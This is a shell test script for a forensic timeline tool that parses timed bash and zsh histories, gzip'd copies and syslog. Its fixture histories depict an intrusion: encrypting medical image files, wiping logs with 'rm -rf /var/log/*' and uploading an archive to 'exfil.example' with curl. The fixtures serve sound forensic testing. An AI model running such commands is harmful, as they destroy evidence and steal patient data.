#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# Shell histories with times: a bash history (HISTTIMEFORMAT) gives one event
# per timed command, checked against bash's own `history -r` reading of the
# same file; untimed lines are counted, not given a time; a zsh extended
# history gives its times, durations and continued commands; a gzip'd copy
# reads the same; a syslog file is not taken for a history.
. "$(dirname "$0")/lib.sh"
need sqlite3
need bash
new_case
printf '%s\n' 'ls /srv' 'id' \
	'#1717236000' 'sudo -i' \
	'#1717236005' 'openssl enc -aes-256-cbc -in /srv/pacs/a.dcm -out /srv/pacs/a.dcm.enc' \
	'#1717236009' 'rm -rf /var/log/*' \
	'#1717236012' >"$TMP/bash_history"
printf 'echo "caf\303\251 \377" > /tmp/note\n#1717236020\n' >>"$TMP/bash_history"
b=$(add_evidence file "$TMP/bash_history")
gzip -c "$TMP/bash_history" >"$TMP/history.gz"
g=$(add_evidence file "$TMP/history.gz")
printf '%s\n' ': 1717237000:0;cd /srv/pacs' ': 1717237004:95;tar czf /tmp/out.tgz \' '  studies' \
	': 1717237200:1;curl -T /tmp/out.tgz https://exfil.example/' >"$TMP/zsh_history"
z=$(add_evidence file "$TMP/zsh_history")
printf '%s\n' 'Jun  1 10:00:00 ward1 sshd[1]: Accepted password for a from 10.0.0.1 port 1 ssh2' \
	'Jun  1 10:00:01 ward1 sshd[1]: #1717236000' >"$TMP/syslog"
s=$(add_evidence file "$TMP/syslog")
expect_exit 0 analyze timeline --year 2024
expect_grep "^$b +4 events, 0 rejected" "$TMP/out"
expect_grep "^$g +4 events, 0 rejected" "$TMP/out"
expect_grep "^$z +3 events, 0 rejected" "$TMP/out"
expect_grep "bash_history': 2 command line\(s\) before the first time stamp have no time" "$TMP/out"
expect_grep "bash_history': 1 time stamp\(s\) with no command after them" "$TMP/out"
[ "$(sqlite3 case.db "SELECT DISTINCT source FROM events WHERE evidence_id='$s'")" = syslog ] ||
	fail "the syslog file was not read as syslog"

# the oracle: bash reads the same file (HISTTIMEFORMAT %s prints the epoch);
# the two untimed lines get bash's "now" and are left out of the comparison
env -i HOME="$TMP" bash --norc -c "HISTFILE='$TMP/bash_history'; HISTTIMEFORMAT='%s|'; set -o history; history -c; history -r; history" |
	sed 's/^ *[0-9]*  //' | tail -n +3 >"$TMP/oracle"
sqlite3 case.db "SELECT (time_ns / 1000000000) || '|' || json_extract(attrs, '\$.command') FROM events WHERE evidence_id='$b' ORDER BY id" >"$TMP/ours"
[ "$(wc -l <"$TMP/oracle")" -eq 4 ] || fail "bash's own reading gave $(wc -l <"$TMP/oracle") timed entries"
# bash keeps the raw bytes; lifeline stores text repaired to UTF-8 (\377 -> U+FFFD)
LC_ALL=C sed -i 's/\xff/\xef\xbf\xbd/' "$TMP/oracle"
expect_same "$TMP/oracle" "$TMP/ours" "events differ from bash's history"
test_count=$((test_count + 1))
q() { sqlite3 case.db "$1" >"$TMP/q"; }
q "SELECT parser, time_desc, time_raw, locator, time_rule FROM events_full WHERE evidence_id='$b' ORDER BY id LIMIT 1"
expect_grep "^bash-history\|Written Time\|1717236000\|line=3;offset=11\|bash history '#EPOCH' line \(HISTTIMEFORMAT\): seconds since the epoch, UTC" "$TMP/q"
[ "$(sqlite3 case.db "SELECT group_concat(time_ns || message, ',') FROM events WHERE evidence_id='$b'")" = \
	"$(sqlite3 case.db "SELECT group_concat(time_ns || message, ',') FROM events WHERE evidence_id='$g'")" ] ||
	fail "the gzip'd history differs"
q "SELECT strftime('%Y-%m-%dT%H:%M:%SZ', time_ns / 1000000000, 'unixepoch'), parser, json_extract(attrs, '\$.duration_seconds'), json_extract(attrs, '\$.lines'), replace(message, char(10), '~'), locator FROM events WHERE evidence_id='$z' ORDER BY id"
expect_grep "^$(date -u -d @1717237004 +%Y-%m-%dT%H:%M:%SZ)\|zsh-history\|95\|2\|tar czf /tmp/out.tgz \\\\~  studies\|line=2;offset=28$" "$TMP/q"
expect_grep "^$(date -u -d @1717237200 +%Y-%m-%dT%H:%M:%SZ)\|zsh-history\|1\|1\|curl -T /tmp/out.tgz https://exfil.example/\|line=4;" "$TMP/q"
done_testing
